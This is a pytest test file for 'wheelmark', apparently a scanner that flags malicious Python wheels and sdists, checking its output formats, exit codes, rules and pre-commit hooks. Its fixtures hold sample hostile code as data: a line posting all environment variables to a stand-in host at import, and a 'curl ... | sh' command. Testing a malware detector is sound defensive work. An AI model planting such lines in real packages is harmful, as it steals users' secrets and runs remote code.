"""`wheelmark scan` as people and scripts run it."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from support.sarif import check_log, where
from support.scan import PYTHON_RULE, a_rule_folder, a_wheel, an_sdist, the_ruleset

MALICIOUS = {
    "widget/__init__.py": "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))"
}
SUSPICIOUS = {  # as MALICIOUS and more, but only when somebody calls it
    "widget/__init__.py": "import os, socket, requests\n"
    "def report():\n    requests.post('https://x.example.invalid', json=[dict(os.environ), socket.gethostname()])"
}
BENIGN = {"widget/__init__.py": "VERSION = 1\n"}


def scan(*arguments: object) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "wheelmark.cli", "scan", *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, timeout=120)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "bad-1-py3-none-any.whl").write_bytes(a_wheel(MALICIOUS))
    (tmp_path / "odd-1-py3-none-any.whl").write_bytes(a_wheel(SUSPICIOUS))
    (tmp_path / "deep").mkdir()
    (tmp_path / "deep" / "good-1.tar.gz").write_bytes(an_sdist(BENIGN))
    (tmp_path / "notes.txt").write_text("no distribution")
    return tmp_path


def test_json_has_one_line_for_each_file_in_order(folder: Path) -> None:
    result = scan(folder, "--format", "json", "--jobs", 2)
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [(Path(line["file"]).name, line["verdict"]) for line in lines] == [
        ("bad-1-py3-none-any.whl", "malicious"),
        ("good-1.tar.gz", "benign"),
        ("odd-1-py3-none-any.whl", "suspicious"),
    ]
    always = {"file", "sha256", "verdict", "score", "findings", "elapsed_ms", "ruleset", "model"}
    assert set(lines[0]) == always | {"reasons"}
    assert set(lines[1]) == always
    assert set(lines[0]["findings"][0]) == {"rule", "severity", "member", "line", "message", "evidence"}
    assert result.returncode == 1
    assert result.stderr == ""


@pytest.mark.parametrize(
    ("name", "fail_on", "status"),
    [
        ("deep/good-1.tar.gz", "suspicious", 0),
        ("odd-1-py3-none-any.whl", "malicious", 0),
        ("odd-1-py3-none-any.whl", "suspicious", 1),
        ("bad-1-py3-none-any.whl", "malicious", 1),
    ],
)
def test_exit_status_follows_fail_on(folder: Path, name: str, fail_on: str, status: int) -> None:
    assert scan(folder / name, "--fail-on", fail_on).returncode == status


def test_what_cannot_be_read_is_incomplete_and_exits_with_2(folder: Path) -> None:
    (folder / "broken-1-py3-none-any.whl").write_bytes(b"no archive")
    result = scan(folder / "broken-1-py3-none-any.whl", folder / "missing.whl", "--format", "json")
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [line["verdict"] for line in lines] == ["incomplete", "incomplete"]
    assert all(line["incomplete_reason"] for line in lines)
    assert result.returncode == 2


def test_folder_without_distributions_is_not_called_clean(tmp_path: Path) -> None:
    result = scan(tmp_path)
    assert result.returncode == 2
    assert "expected distributions to scan, got none" in result.stderr


def test_text_says_where_why_and_what(folder: Path) -> None:
    result = scan(folder / "bad-1-py3-none-any.whl")
    assert "malicious" in result.stdout
    assert "widget/__init__.py:2 (runs at import)  [secrets-sent]" in result.stdout
    assert "requests.post of os.environ" in result.stdout


def test_escape_sequences_of_a_file_do_not_reach_the_terminal(tmp_path: Path) -> None:
    path = tmp_path / "esc-1-py3-none-any.whl"
    path.write_bytes(
        a_wheel({"widget/\x1b[2J.py": "import os\nos.system('curl https://x.example.invalid/a | sh; [red]\x1b[2J')"})
    )
    assert "\x1b" not in scan(path).stdout


def test_sarif_is_one_log_of_all_files(folder: Path) -> None:
    result = scan(folder, "--format", "sarif")
    log = json.loads(result.stdout)
    check_log(log)
    assert {each["ruleId"] for each in log["runs"][0]["results"]} >= {"secrets-sent", "taken-together"}
    assert result.returncode == 1


def test_malicious_samples_of_all_rules_are_scanned_in_one_run(tmp_path: Path) -> None:
    for rule in the_ruleset().rules:
        for number, sample in enumerate(rule.samples.malicious):
            suffix = "-py3-none-any.whl" if sample.is_wheel else ".tar.gz"
            (tmp_path / f"{rule.id.replace('-', '_')}-{number}{suffix}").write_bytes(sample.packed())
    lines = [json.loads(line) for line in scan(tmp_path, "--format", "json").stdout.splitlines()]
    assert len(lines) >= 24
    assert all(line["findings"] for line in lines)


def test_rules_of_a_folder_count_by_option_and_by_variable(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (folder / "deletes-1-py3-none-any.whl").write_bytes(a_wheel({"widget/__init__.py": "import os\nos.remove('x')\n"}))
    rules = a_rule_folder(folder / "our-rules")
    wheel = folder / "deletes-1-py3-none-any.whl"
    assert scan(wheel).returncode == 0
    with_option = scan(wheel, "--rules", rules, "--format", "json")
    monkeypatch.setenv("WHEELMARK_RULES", str(rules))
    with_variable = scan(wheel, "--format", "json")
    for result in (with_option, with_variable):
        assert result.returncode == 1
        assert [each["rule"] for each in json.loads(result.stdout)["findings"]] == ["deletes-at-import"]


def test_rule_that_cannot_be_loaded_stops_the_scan(folder: Path) -> None:
    rules = a_rule_folder(folder / "our-rules", broken_py="def (")
    result = scan(folder, "--rules", rules)
    assert (result.returncode, result.stdout) == (2, "")
    assert "broken.py: expected a rule that loads, got SyntaxError" in result.stderr


def test_rules_are_listed_with_what_they_are(tmp_path: Path) -> None:
    text = PYTHON_RULE.replace("version=1,", "version=3, state=RuleState.DISABLED,").replace(
        "import Act,", "import RuleState, Act,"
    )
    rules = a_rule_folder(tmp_path, deletes_at_import_py=text)
    result = scan("rules", "--rules", rules, "--json")
    listed = {line["id"]: line for line in map(json.loads, result.stdout.splitlines())}
    assert set(listed) == {rule.id for rule in the_ruleset().rules} | {"deletes-at-import"}
    mine = listed["deletes-at-import"]
    assert (mine["version"], mine["severity"], mine["state"]) == (3, "critical", "disabled")
    assert mine["tactic"] == "TA0040 Impact"
    assert mine["origin"].startswith("deletes_at_import.py sha256:")
    assert listed["secrets-sent"]["origin"] == "built-in"
    assert mine["kept_because"] == ""
    assert listed["odd-executable"]["kept_because"].startswith("One family of the development samples shows it.")
    table = scan("rules", "--rules", rules).stdout
    assert "deletes-at-import        3        critical  TA0040 Impact" in table
    told = table.partition("Kept though hardly any known malware shows them:")[2]
    assert "odd-executable: One family" in told
    assert "secrets-sent" not in told


def test_new_rule_is_written_tested_and_used(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    assert scan("new-rule", "our-own-rule", "--into", rules).returncode == 0
    result = scan("test-rules", rules)
    assert (result.returncode, result.stderr) == (0, "")
    assert "holds   our-own-rule 1 (evaluation; 2 malicious, 2 benign samples)" in result.stdout
    again = scan("new-rule", "our-own-rule", "--into", rules)
    assert again.returncode == 2
    assert "File exists" in again.stderr


def test_rule_that_breaks_the_contract_is_told_with_status_1(tmp_path: Path) -> None:
    text = PYTHON_RULE.replace("if call.context.automatic:", "if True:")
    result = scan("test-rules", a_rule_folder(tmp_path, deletes_at_import_py=text))
    assert result.returncode == 1
    assert "BROKEN  deletes-at-import 1" in result.stdout
    assert "benign 1: expected no finding, got critical at widget/__init__.py:5" in result.stdout


def test_false_alarms_of_a_rule_are_told_by_name(folder: Path) -> None:
    rules = a_rule_folder(folder / "our-rules")
    trusted = folder / "trusted"
    trusted.mkdir()
    (trusted / "tidy-1-py3-none-any.whl").write_bytes(a_wheel({"tidy.py": "import os\nos.remove('x')\n"}))
    (trusted / "calm-1-py3-none-any.whl").write_bytes(a_wheel({"calm.py": "VERSION = 1\n"}))
    result = scan("test-rules", rules, "--against", trusted)
    assert result.returncode == 0
    assert "deletes-at-import: 1 findings in 1 distributions" in result.stdout
    assert "critical tidy-1-py3-none-any.whl  tidy.py:2  os.remove(x)" in result.stdout
    assert "marker-word: 0 findings in 0 distributions" in result.stdout
    (trusted / "broken-1-py3-none-any.whl").write_bytes(b"no archive")
    with_gap = scan("test-rules", rules, "--against", trusted)
    assert with_gap.returncode == 2
    assert "not looked at in full: broken-1-py3-none-any.whl" in with_gap.stdout


def test_source_tree_is_scanned_as_the_sdist_that_it_would_be(tmp_path: Path) -> None:
    folder = tmp_path / "widget"
    (folder / ".git").mkdir(parents=True)
    (folder / "setup.py").write_text(MALICIOUS["widget/__init__.py"])
    result = scan("--tree", folder, "--format", "json")
    assert result.returncode == 1
    report = json.loads(result.stdout)
    assert (report["file"], report["verdict"]) == (str(folder), "malicious")
    assert {finding["member"] for finding in report["findings"]} == {"setup.py"}
    assert result.stderr == f"wheelmark: {folder}: left out .git\n"


def test_nothing_to_scan_is_not_called_clean(tmp_path: Path) -> None:
    assert scan().returncode == 2
    missing = scan("--tree", tmp_path / "missing")
    assert (missing.returncode, missing.stdout) == (2, "")


def test_command_word_that_is_also_a_file_says_how_to_scan_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "rules").mkdir()
    monkeypatch.chdir(tmp_path)
    assert "what is called so is scanned as ./rules" in scan("rules").stderr


def test_sarif_of_a_tree_points_at_its_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "src" / "widget").mkdir(parents=True)
    (tmp_path / "src" / "widget" / "__init__.py").write_text(MALICIOUS["widget/__init__.py"])
    monkeypatch.chdir(tmp_path)
    log = json.loads(scan("--tree", ".", "--format", "sarif").stdout)
    check_log(log)
    (result,) = [each for each in log["runs"][0]["results"] if each["ruleId"] == "secrets-sent"]
    assert where(result) == "src/widget/__init__.py"
    assert result["locations"][0]["physicalLocation"]["region"]["snippet"]["text"].startswith("requests.post(")


HOOKS = {
    hook["id"]: hook
    for hook in yaml.safe_load((Path(__file__).parents[2] / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
}


@pytest.mark.parametrize(("source", "status"), [(MALICIOUS, 1), (BENIGN, 0)])
def test_pre_commit_hooks_find_malicious_code(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: dict[str, str], status: int
) -> None:
    """The entries as pre-commit runs them, in a repository: the tree, and the distributions that are committed."""
    (tmp_path / "widget").mkdir()
    (tmp_path / "widget" / "__init__.py").write_text(source["widget/__init__.py"])
    (tmp_path / "widget-1-py3-none-any.whl").write_bytes(a_wheel(source))
    monkeypatch.chdir(tmp_path)
    tree, files = HOOKS["wheelmark-scan"], HOOKS["wheelmark-scan-files"]
    assert tree["pass_filenames"] is False
    assert scan(*tree["entry"].split()[2:]).returncode == status
    names = [path.name for path in tmp_path.rglob("*") if re.search(files["files"], path.name)]
    assert names == ["widget-1-py3-none-any.whl"]
    assert scan(*files["entry"].split()[2:], *names).returncode == status


@pytest.mark.parametrize("form", ["text", "json", "sarif"])
def test_file_whose_name_is_no_text_is_shown_in_every_form(tmp_path: Path, form: str) -> None:
    name = os.fsdecode(b"widget-\xff-1-py3-none-any.whl")
    (tmp_path / name).write_bytes(a_wheel(MALICIOUS))
    result = scan(tmp_path, "--format", form)
    assert (result.returncode, result.stderr) == (1, "")
    assert "malicious" in result.stdout
